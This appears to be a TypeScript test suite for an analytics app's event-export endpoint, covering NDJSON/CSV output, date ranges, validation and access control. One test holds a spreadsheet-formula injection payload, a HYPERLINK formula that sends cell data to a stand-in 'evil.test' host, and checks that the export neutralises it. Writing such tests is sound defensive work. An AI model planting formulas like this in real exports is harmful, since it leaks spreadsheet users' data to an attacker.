import { Account, bearer, createApiKey, createWebsite, signup, startTestApp, TestApp } from './support/test-app';

describe('GET /api/websites/{id}/export', () => {
  let t: TestApp;
  let owner: Account;
  let site: { id: string };
  beforeAll(async () => {
    t = await startTestApp();
    owner = await signup(t, 'owner');
    site = await createWebsite(t, owner, { timezone: 'Europe/Berlin' });
    const other = await createWebsite(t, owner);
    const key = await createApiKey(t, owner, { scopes: ['ingest'] });
    const events = [
      { website_id: site.id, url: 'https://example.com/a', visitor_id: 'v1', timestamp: '2026-03-01T10:00:00Z' },
      { website_id: site.id, type: 'custom', name: 'signup', props: { plan: 'pro, yearly' }, url: 'https://example.com/b', visitor_id: 'v1', timestamp: '2026-03-01T10:05:00Z' },
      { website_id: site.id, url: 'https://example.com/c', visitor_id: 'v2', timestamp: '2026-03-03T09:00:00Z' },
      { website_id: other.id, url: 'https://example.com/other', visitor_id: 'v3', timestamp: '2026-03-01T11:00:00Z' },
    ];
    await t.http().post('/api/v1/events').set(bearer(key.key)).send({ events }).expect(202);
  });
  afterAll(() => t.close());

  const url = (q: string) => `/api/websites/${site.id}/export?${q}`;

  it("streams the site's events in range as NDJSON, oldest first, and no other site's", async () => {
    const res = await t.http().get(url('start_date=2026-03-01&end_date=2026-03-03')).set(bearer(owner.token)).expect(200);
    expect(res.headers['content-type']).toMatch(/^application\/x-ndjson/);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${site.id}-events.ndjson"`);
    const rows = res.text.trim().split('\n').map((l) => JSON.parse(l));
    expect(rows.map((r) => [r.path, r.kind, r.visitor_id])).toEqual([
      ['/a', 'pageview', 'v1'],
      ['/b', 'custom', 'v1'],
      ['/c', 'pageview', 'v2'],
    ]);
    expect(rows[1]).toMatchObject({ name: 'signup', props: { plan: 'pro, yearly' }, occurred_at: '2026-03-01T10:05:00.000Z' });
    expect(Object.keys(rows[0])).not.toContain('ip');
  });

  it('keeps to the range, in the website time zone', async () => {
    const res = await t.http().get(url('start_date=2026-03-02&end_date=2026-03-03')).set(bearer(owner.token)).expect(200);
    expect(res.text.trim().split('\n').map((l) => JSON.parse(l).path)).toEqual(['/c']);
  });

  it('streams CSV with a header row and quoted fields', async () => {
    const res = await t.http().get(url('start_date=2026-03-01&end_date=2026-03-01&format=csv')).set(bearer(owner.token)).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const lines = res.text.split('\r\n');
    expect(lines[0].startsWith('id,occurred_at,kind,name,visitor_id,session_id,hostname,path')).toBe(true);
    expect(lines).toHaveLength(4); // header, two events, and the empty string after the last newline
    expect(lines[2]).toContain('"{""plan"":""pro, yearly""}"');
  });

  it('neutralises spreadsheet formulas a visitor sent (a public collect with a formula as title)', async () => {
    const title = '=HYPERLINK("https://evil.test/?d="&A1,"Click")';
    await t.http().post('/api/v1/events').send({ website_id: site.id, type: 'pageview', url: 'https://example.com/formula', title, timestamp: '2026-02-20T12:00:00Z' }).expect(202);
    const res = await t.http().get(url('start_date=2026-02-20&end_date=2026-02-20&format=csv')).set(bearer(owner.token)).expect(200);
    const row = res.text.split('\r\n')[1];
    expect(row).toContain(`"'=HYPERLINK(""https://evil.test/?d=""&A1,""Click"")"`);
    expect(row).not.toMatch(/(^|,)"?=/);
    const ndjson = await t.http().get(url('start_date=2026-02-20&end_date=2026-02-20')).set(bearer(owner.token)).expect(200);
    expect(JSON.parse(ndjson.text.trim()).title).toBe(title);
  });

  it('validates format and dates with 400', async () => {
    await t.http().get(url('format=xml')).set(bearer(owner.token)).expect(400);
    await t.http().get(url('start_date=2026-03-05&end_date=2026-03-01')).set(bearer(owner.token)).expect(400);
  });

  it('is for owners and admins only: members 403, keys 403, other tenants 404', async () => {
    const member = await signup(t, 'member');
    await t.http().post(`/api/organizations/${owner.organizationId}/members`).set(bearer(owner.token)).send({ email: member.email, role: 'member' }).expect(201);
    await t.http().get(url('')).set(bearer(member.token)).expect(403);
    const readKey = await createApiKey(t, owner, { scopes: ['read'] });
    await t.http().get(url('')).set(bearer(readKey.key)).expect(403);
    const stranger = await signup(t, 'stranger');
    const res = await t.http().get(url('')).set(bearer(stranger.token)).expect(404);
    expect(res.text).not.toContain('example.com');
    await t.http().get(url('')).expect(401);
  });
});
